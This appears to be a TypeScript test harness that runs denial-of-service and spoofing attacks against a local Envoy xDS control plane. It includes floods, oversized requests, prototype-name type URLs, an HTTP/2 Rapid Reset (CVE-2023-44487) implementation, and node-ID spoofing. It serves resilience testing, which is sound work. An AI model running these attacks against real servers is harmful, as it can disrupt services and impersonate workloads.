/** Attacks of untrusted clients on a control plane. Each is as heavy as one process can make it, and runs until stopped. */
import { create, fromBinary, type MessageInitShape, toBinary } from '@bufbuild/protobuf';
import { Client, type ClientDuplexStream, credentials } from '@grpc/grpc-js';
import {
  DeltaDiscoveryRequestSchema,
  DiscoveryRequestSchema,
  DiscoveryResponseSchema,
} from '../../src/gen/envoy/service/discovery/v3/discovery_pb.ts';
import { typeUrls } from '../ads-client.ts';
import { flags, frame, preface, RawHttp2, requestHeaders, uint32 } from '../harness/raw-http2.ts';
import { UnreadStream } from '../harness/unread-stream.ts';

export type Call = ClientDuplexStream<Buffer, Buffer>;

/** ID of a known node, which other clients may claim. */
export const attackedNode = 'sidecar~10.66.0.2~known.away~away.svc.cluster.local';

/** One connection of an untrusted client. */
export class HostileClient {
  readonly client: Client;
  readonly port: number;
  readonly node = { id: 'sidecar~10.66.0.1~evil.away~away.svc.cluster.local' };

  constructor(port: number) {
    this.port = port;
    this.client = new Client(`127.0.0.1:${port}`, credentials.createInsecure(), {
      'grpc.use_local_subchannel_pool': 1,
      'grpc.max_receive_message_length': -1,
    });
  }

  /** A stream that reads and drops its responses. */
  open(delta = false): Call {
    const asItIs = (bytes: Buffer): Buffer => bytes;
    const method = delta ? 'DeltaAggregatedResources' : 'StreamAggregatedResources';
    const path = `/envoy.service.discovery.v3.AggregatedDiscoveryService/${method}`;
    const call = this.client.makeBidiStreamRequest(path, asItIs, asItIs);
    call.on('error', () => {});
    call.on('data', () => {});
    return call;
  }
}

export function sotw(request: MessageInitShape<typeof DiscoveryRequestSchema>): Buffer {
  return Buffer.from(toBinary(DiscoveryRequestSchema, create(DiscoveryRequestSchema, request)));
}

export function delta(request: MessageInitShape<typeof DeltaDiscoveryRequestSchema>): Buffer {
  return Buffer.from(toBinary(DeltaDiscoveryRequestSchema, create(DeltaDiscoveryRequestSchema, request)));
}

/** Runs until it is aborted. @returns number of actions, as evidence of the attack */
export type Attack = (client: HostileClient, signal: AbortSignal) => Promise<number>;

/** Maximum wait of an untrusted client for a server that does not read. */
const maxWaitMs = 250;

const pause = (ms = 0): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

/** Stream of a flood. */
interface Flooded {
  readonly isOver: boolean;
  /** @returns false while bytes are buffered */
  send(bytes: Buffer): boolean;
  onDrain(listener: () => void): void;
}

/** A flood on a stream that reads and drops its responses. */
function flooded(call: Call): Flooded {
  let isOver = false;
  call.on('status', () => {
    isOver = true;
  });
  return {
    get isOver() {
      return isOver;
    },
    send: (bytes) => call.write(bytes),
    onDrain: (listener) => void call.on('drain', listener),
  };
}

/** Sends as fast as the server reads, until the stream or the attack ends. */
async function flood(to: Flooded, signal: AbortSignal, next: (number: number) => Buffer): Promise<number> {
  let sentCount = 0;
  let wake = (): void => {};
  to.onDrain(() => wake());
  while (!signal.aborted && !to.isOver) {
    if (to.send(next(sentCount++))) {
      if (sentCount % 50 === 0) await pause();
      continue;
    }
    await new Promise<void>((resolve) => {
      wake = resolve;
      setTimeout(resolve, maxWaitMs);
    });
  }
  return sentCount;
}

/** Repeats an attack, because a server may end the stream. */
async function repeatUntilAborted(signal: AbortSignal, action: () => Promise<number>, restMs = 20): Promise<number> {
  let doneCount = 0;
  while (!signal.aborted) {
    doneCount += await action();
    await pause(restMs);
  }
  return doneCount;
}

/** Names of `Object.prototype` as types, in both protocols, with a forged nonce and without one. */
const hostileTypes = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'];

const typeNames: Attack = (client, signal) =>
  repeatUntilAborted(signal, async () => {
    const calls: Call[] = [];
    for (const typeUrl of hostileTypes) {
      for (const responseNonce of ['', 'stale']) {
        const { node } = client;
        const one = client.open();
        one.write(sotw({ node, typeUrl, responseNonce }));
        const other = client.open(true);
        other.write(delta({ node, typeUrl, responseNonce }));
        other.write(delta({ typeUrl, responseNonce, errorDetail: { code: 3, message: 'no' } }));
        calls.push(one, other);
      }
    }
    await pause(400);
    for (const call of calls) call.cancel();
    return calls.length;
  });

const unknownTypes: Attack = (client, signal) =>
  repeatUntilAborted(signal, async () => {
    const { node } = client;
    const call = client.open();
    const sentCount = await flood(flooded(call), signal, (number) =>
      sotw({ ...(number === 0 && { node }), typeUrl: `type.googleapis.com/unknown.Type${number}` }),
    );
    call.cancel();
    return sentCount;
  });

/** Just below the maximum request size, in the ID and in the metadata. */
const giantNodes: Attack = (client, signal) => {
  const text = 'x'.repeat(3_900_000);
  const calls: Call[] = [];
  return repeatUntilAborted(
    signal,
    async () => {
      const isId = calls.length % 2 === 0;
      const id = `sidecar~10.66.0.1~${isId ? text : 'evil'}~away.svc.cluster.local`;
      const call = client.open();
      call.write(sotw({ node: { id, ...(!isId && { metadata: { text } }) }, typeUrl: typeUrls.CDS }));
      calls.push(call);
      // Keeps a limited number of accepted calls open.
      if (calls.length > 12) calls.shift()!.cancel();
      return 1;
    },
    100,
  );
};

const meaninglessNames: Attack = async (client, signal) => {
  const { node } = client;
  const names = (prefix: string, number: number): string[] =>
    Array.from({ length: 2_000 }, (_, i) => `${prefix}${number}-${i}`);
  const request = (typeUrl: string, prefix: string) =>
    repeatUntilAborted(signal, async () => {
      const call = client.open();
      const sentCount = await flood(flooded(call), signal, (number) =>
        sotw({ ...(number === 0 && { node }), typeUrl, resourceNames: names(prefix, number) }),
      );
      call.cancel();
      return sentCount;
    });
  const sums = await Promise.all([request(typeUrls.EDS, 'outbound|80||none'), request(typeUrls.RDS, 'no-route')]);
  return sums[0] + sums[1];
};

const rejections: Attack = (client, signal) =>
  repeatUntilAborted(signal, async () => {
    const { node } = client;
    const call = client.open();
    call.write(sotw({ node, typeUrl: typeUrls.CDS }));
    const bytes = sotw({
      typeUrl: typeUrls.CDS,
      responseNonce: 'any',
      errorDetail: { code: 3, message: 'no such thing '.repeat(150) },
    });
    const sentCount = await flood(flooded(call), signal, () => bytes);
    call.cancel();
    return sentCount;
  });

const silentStreams: Attack = async (client, signal) => {
  const calls: Call[] = [];
  while (!signal.aborted) {
    for (let i = 0; i < 100 && calls.length < 2_000; i++) calls.push(client.open());
    await pause(50);
  }
  for (const call of calls) call.cancel();
  return calls.length;
};

/** Requests all resources and constantly new names without reading the responses. */
const attackWithoutReading: Attack = async (client, signal) => {
  const { node } = client;
  const types = [typeUrls.CDS, typeUrls.LDS, typeUrls.SDS];
  const request = (isDelta: boolean, next: (number: number) => Buffer) =>
    repeatUntilAborted(signal, async () => {
      const stream = new UnreadStream(client.port, isDelta);
      const sentCount = await flood(stream, signal, next);
      stream.close();
      return sentCount;
    });
  const sums = await Promise.all([
    request(false, (number) => sotw({ ...(number === 0 && { node }), typeUrl: types[number % types.length]! })),
    request(true, (number) =>
      delta({
        ...(number === 0 && { node }),
        typeUrl: typeUrls.EDS,
        resourceNamesSubscribe: Array.from({ length: 10 }, (_, i) => `outbound|80||unread${number}-${i}`),
      }),
    ),
  ]);
  return sums[0] + sums[1];
};

/** Number of streams per connection that are opened and immediately reset (CVE-2023-44487). */
const resetsPerConnection = 2_000;
const batch = 50;
const cancel = uint32(8);

const rapidReset: Attack = (client, signal) =>
  repeatUntilAborted(
    signal,
    async () => {
      const connection = new RawHttp2(client.port);
      const block = requestHeaders();
      await connection.begin();
      let sentCount = 0;
      while (sentCount < resetsPerConnection && !connection.isOver && !signal.aborted) {
        const frames: Buffer[] = [];
        for (let i = 0; i < batch; i++, sentCount++) {
          const stream = 2 * sentCount + 1;
          frames.push(frame('headers', flags.endHeaders, stream, block), frame('reset', 0, stream, cancel));
        }
        await connection.flush(...frames);
        await pause();
      }
      connection.close();
      return sentCount;
    },
    0,
  );

/** Runs a task this many times per second. @returns number of runs */
async function paced(perSecond: number, signal: AbortSignal, action: (number: number) => void): Promise<number> {
  const startedAt = performance.now();
  let doneCount = 0;
  for (; !signal.aborted; await pause(5)) {
    while (doneCount < ((performance.now() - startedAt) / 1_000) * perSecond) action(doneCount++);
  }
  return doneCount;
}

/** The first frames of an xDS client on a separate connection. With an ID, the client identifies itself as this node. */
function connectRaw(port: number, id?: string): RawHttp2 {
  const connection = new RawHttp2(port);
  const message = id === undefined ? Buffer.alloc(0) : sotw({ node: { id }, typeUrl: typeUrls.CDS });
  const prefix = Buffer.concat([Buffer.from([0]), uint32(message.length)]);
  connection.send(preface, frame('settings', 0, 0), frame('headers', flags.endHeaders, 1, requestHeaders()));
  if (id !== undefined) connection.send(frame('data', 0, 1, Buffer.concat([prefix, message])));
  return connection;
}

let ids = 0;
const newId = (): string => `sidecar~10.66.0.1~evil-${ids++}.away~away.svc.cluster.local`;

/** Many node IDs, each on a separate connection that is closed once the node has acknowledged its clusters. */
const idStorm: Attack = async ({ port }, signal) => {
  const acknowledging = paced(40, signal, () => {
    const one = new HostileClient(port);
    const call = one.open();
    const end = (): void => one.client.close();
    call.write(sotw({ node: { id: newId() }, typeUrl: typeUrls.CDS }));
    call.once('data', (bytes: Buffer) => {
      const { nonce: responseNonce, typeUrl } = fromBinary(DiscoveryResponseSchema, bytes);
      call.write(sotw({ typeUrl, responseNonce }));
      setTimeout(end, 20);
    });
    call.on('status', end);
    setTimeout(end, 1_500);
  });
  const introducing = paced(80, signal, () => {
    const connection = connectRaw(port, newId());
    setTimeout(() => connection.close(), 1_200);
  });
  const [acknowledgedCount, introduced] = await Promise.all([acknowledging, introducing]);
  return acknowledgedCount + introduced;
};

/** Opens this many streams per second on separate connections and keeps them open. */
const heldOpen =
  (perSecond: number, id?: () => string): Attack =>
  async ({ port }, signal) => {
    const connections: RawHttp2[] = [];
    const doneCount = await paced(perSecond, signal, () => void connections.push(connectRaw(port, id?.())));
    for (const connection of connections) connection.close();
    return doneCount;
  };

/** Claims the ID of `attackedNode`. */
const spoofing = heldOpen(45, () => attackedNode);

/** Uses as much of the machine as an attack may, but sends nothing: the baseline on a shared machine. */
const baseline: Attack = async (_, signal) => {
  let rounds = 0;
  while (!signal.aborted) {
    const untilMs = performance.now() + 5;
    while (performance.now() < untilMs);
    rounds++;
    await pause();
  }
  return rounds;
};

export const attacks = {
  elsewhere: baseline,
  typeNames,
  unknownTypes,
  giantNodes,
  meaninglessNames,
  rejections,
  silentStreams,
  withoutReading: attackWithoutReading,
  rapidReset,
  idStorm,
  heldStreams: heldOpen(45),
  heldNodes: heldOpen(45, newId),
  spoofing,
} as const satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
